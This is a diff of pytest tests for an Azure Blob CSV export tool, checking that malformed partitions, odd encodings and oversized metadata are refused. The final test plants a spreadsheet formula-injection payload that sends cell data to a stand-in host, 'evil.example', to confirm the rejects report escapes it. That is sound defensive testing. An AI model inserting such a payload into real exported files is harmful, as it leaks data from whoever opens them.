@@ -5,13 +5,15 @@ from __future__ import annotations
 import csv
 import json
 from pathlib import Path
+from typing import Any
 
 import pytest
-from azure.storage.blob import ContainerClient
-from helpers import reference_dir
+from azure.storage.blob import BlobServiceClient, ContainerClient
+from helpers import COLUMNS, FOLDER, LIST_ID, SEGMENT, definition, person, reference_dir, rejects_rows, run, sandbox_get, write
 
 from shared.errors import ExportError
-from shared.source import BlobSource
+from shared.source import MAX_METADATA_BYTES, BlobSource
+from tools.sample_export import csv_bytes, write_export
 
 
 def upload_folder(container: ContainerClient, local: Path, prefix: str) -> None:
@@ -122,3 +124,105 @@ def test_partition_encodings_bom_and_invalid_bytes(source_container: ContainerCl
     assert rows[0] == ("p1", 1, ["a@example.com", "Malmö"])  # the BOM is not part of the first value
     assert rows[1][2][1] == "Bad \udcff"  # kept as a marker so mapping can reject just this row
     assert rows[2] == ("p2", 1, ["c@example.com", "Malmö"])
+
+
+def one_partition_model(name: str = "p1", **settings: str) -> bytes:
+    partition: dict[str, object] = {"name": name, "location": "f/Seg/p1.csv"}
+    if settings:
+        partition["fileFormatSettings"] = {"$type": "CsvFormatSettings", **settings}
+    return json.dumps({"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}, {"name": "City"}],
+                                     "partitions": [partition]}]}).encode()
+
+
+def test_an_unterminated_quote_refuses_the_snapshot_naming_partition_and_line(
+        source_container: ContainerClient) -> None:
+    source_container.upload_blob("f/model.json", one_partition_model())
+    rows = [f"x{i}@example.com,Lisbon\r\n" for i in range(20)]
+    rows[17] = 'x17@example.com,"Bob\r\n'
+    source_container.upload_blob("f/Seg/p1.csv", "".join(rows).encode())
+    source = BlobSource(source_container)
+    with pytest.raises(ExportError) as caught:
+        source.count_rows(source.open_segment("f", "Seg"))
+    assert caught.value.code == "source_invalid"
+    assert "partition 'p1'" in caught.value.message and "line 18" in caught.value.message
+
+
+def test_an_oversized_line_is_one_row_the_rest_is_read(source_container: ContainerClient) -> None:
+    source_container.upload_blob("f/model.json", one_partition_model())
+    data = b"a@example.com,A\r\n" + b"z" * (3 * 1024 * 1024) + b",Z\r\nb@example.com,B\r\n"
+    source_container.upload_blob("f/Seg/p1.csv", data)
+    rows = read_all(BlobSource(source_container), "f", "Seg")
+    assert rows == [("p1", 1, ["a@example.com", "A"]), ("p1", 2, []), ("p1", 3, ["b@example.com", "B"])]
+
+
+def test_metadata_over_the_cap_is_refused_before_parsing(source_container: ContainerClient) -> None:
+    padding = b" " * MAX_METADATA_BYTES  # still valid JSON: whitespace, then the model
+    source_container.upload_blob("f/model.json", padding + one_partition_model())
+    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com,A\r\n")
+    with pytest.raises(ExportError) as caught:
+        BlobSource(source_container).open_segment("f", "Seg")
+    assert caught.value.code == "source_invalid" and "model.json" in caught.value.message
+
+
+def test_the_same_blob_listed_twice_is_refused(source_container: ContainerClient) -> None:
+    partitions = [{"name": f"p{n}", "location": location} for n, location in
+                  enumerate(["f/Seg/p1.csv", "https://acct.blob.core.windows.net:443/c/f/Seg/p1.csv?snapshot=1"])]
+    model = {"entities": [{"name": "Seg", "attributes": [{"name": "EMail"}], "partitions": partitions}]}
+    source_container.upload_blob("f/model.json", json.dumps(model).encode())
+    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com\r\n")
+    with pytest.raises(ExportError) as caught:
+        BlobSource(source_container).open_segment("f", "Seg")
+    assert caught.value.code == "source_invalid" and "f/Seg/p1.csv" in caught.value.message
+
+
+def test_utf16_partitions_read_and_an_undecodable_one_is_refused(source_container: ContainerClient) -> None:
+    source_container.upload_blob("f/model.json", one_partition_model(encoding="UTF-16"))
+    source_container.upload_blob("f/Seg/p1.csv", "a@example.com,Malmö\r\n".encode("utf-16"))
+    assert read_all(BlobSource(source_container), "f", "Seg") == [("p1", 1, ["a@example.com", "Malmö"])]
+    # A lone surrogate code unit (0xD800) cannot be kept as a marker: the partition is refused, not a crash.
+    source_container.upload_blob("f/Seg/p1.csv", "a@example.com,X\r\n".encode("utf-16-le").replace(b"X\x00", b"\x00\xd8"),
+                                 overwrite=True)
+    source_container.upload_blob("f/model.json", one_partition_model(encoding="UTF-16LE"), overwrite=True)
+    with pytest.raises(ExportError) as caught:
+        read_all(BlobSource(source_container), "f", "Seg")
+    assert caught.value.code == "source_invalid" and "partition 'p1'" in caught.value.message
+
+
+def test_utf7_partitions_are_refused_before_any_row(source_container: ContainerClient) -> None:
+    source_container.upload_blob("f/model.json", one_partition_model(encoding="utf-7"))
+    source_container.upload_blob("f/Seg/p1.csv", b"a@example.com,+2ADYAA-\r\n")  # a lone surrogate in UTF-7
+    with pytest.raises(ExportError) as caught:
+        BlobSource(source_container).open_segment("f", "Seg")
+    assert caught.value.code == "source_invalid" and "utf-7" in caught.value.message
+
+
+def test_a_malformed_partition_leaves_a_mirror_list_alone(app_factory: Any, source_container: ContainerClient,
+                                                          sandbox: Any) -> None:
+    # The attack review's case: the same snapshot again but for one unterminated quote. Before, the
+    # quote swallowed the rest of the partition and the mirror run unlinked everyone after it.
+    app = app_factory([definition(sync_mode="mirror")])
+    people = [person(i) for i in range(1, 41)]
+    write(source_container, [people])
+    assert run(app).body["counts"]["sent"] == 40
+    broken = csv_bytes(people).replace(b"person37@example.com,Lisbon", b'person37@example.com,"Lisbon')
+    write_export(source_container, FOLDER, SEGMENT, [broken], COLUMNS)
+    second = run(app)
+    assert second.status == 422 and second.body["error"]["code"] == "source_invalid"
+    assert "line 37" in second.body["error"]["message"]
+    members = {c["email"] for c in sandbox_get(sandbox, "contacts")["contacts"] if LIST_ID in c["list_ids"]}
+    assert members == {f"person{i}@example.com" for i in range(1, 41)}
+
+
+def test_rejects_csv_cells_cannot_run_as_formulas(app_factory: Any, source_container: ContainerClient,
+                                                  blob_service: BlobServiceClient, state_container_name: str) -> None:
+    app = app_factory([definition(mapping={"email": "EMail"})])
+    name = '=HYPERLINK("http://evil.example/?"&C2,"Click")'
+    model = {"entities": [{"name": SEGMENT, "attributes": [{"name": "EMail"}],
+                           "partitions": [{"name": name, "location": "p.csv"}]}]}
+    source_container.upload_blob(f"{FOLDER}/model.json", json.dumps(model).encode())
+    source_container.upload_blob(f"{FOLDER}/p.csv", b"a@example.com\r\n-not-an-email\r\n@x\r\n")
+    report = run(app).body
+    assert report["counts"]["sent"] == 1
+    lines = rejects_rows(blob_service, state_container_name, report["rejects_blob"])
+    assert [line["partition"] for line in lines] == ["'" + name] * 2
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for value in line.values())
